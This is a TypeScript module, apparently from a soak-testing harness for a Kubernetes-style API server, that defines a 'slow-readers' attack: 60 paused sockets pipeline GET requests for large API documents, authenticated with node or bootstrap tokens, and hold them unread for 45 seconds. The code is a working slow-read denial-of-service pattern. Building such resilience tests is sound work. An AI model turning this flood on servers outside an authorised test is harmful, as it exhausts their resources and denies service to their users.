import {sleep} from '../../src/runtime.ts'
import type {Attack} from '../attack.ts'
import {CSRS, inTurn} from './bodies.ts'
import {openSocket} from './sockets.ts'

const AT_ONCE = 60
const HOLD = 45_000
const PIPELINED = 20

/** Asks for what is large and reads nothing of it. */
export const slowReaders: Attack = {
  name: 'slow-readers',
  aim: `${AT_ONCE} connections that ask for documents and never read`,
  run: ({holdings, signal, flood, count}) =>
    flood({perSecond: 10, atOnce: AT_ONCE}, async (number) => {
      const identity = inTurn([...holdings.nodes, holdings.bootstrap], number)
      const path = inTurn(
        ['/openapi/v2', CSRS, '/openapi/v3/api/v1', '/api/v1/services?watch=1'],
        number,
      )
      const socket = await openSocket(holdings, identity)
      socket.pause()
      const authorization = identity.token ? `Authorization: Bearer ${identity.token}\r\n` : ''
      const request = `GET ${path} HTTP/1.1\r\nHost: soak\r\n${authorization}\r\n`
      try {
        socket.write(number % 2 === 0 ? request.repeat(PIPELINED) : request)
        count('held')
        await sleep(HOLD, signal)
      } finally {
        socket.destroy()
      }
    }),
}
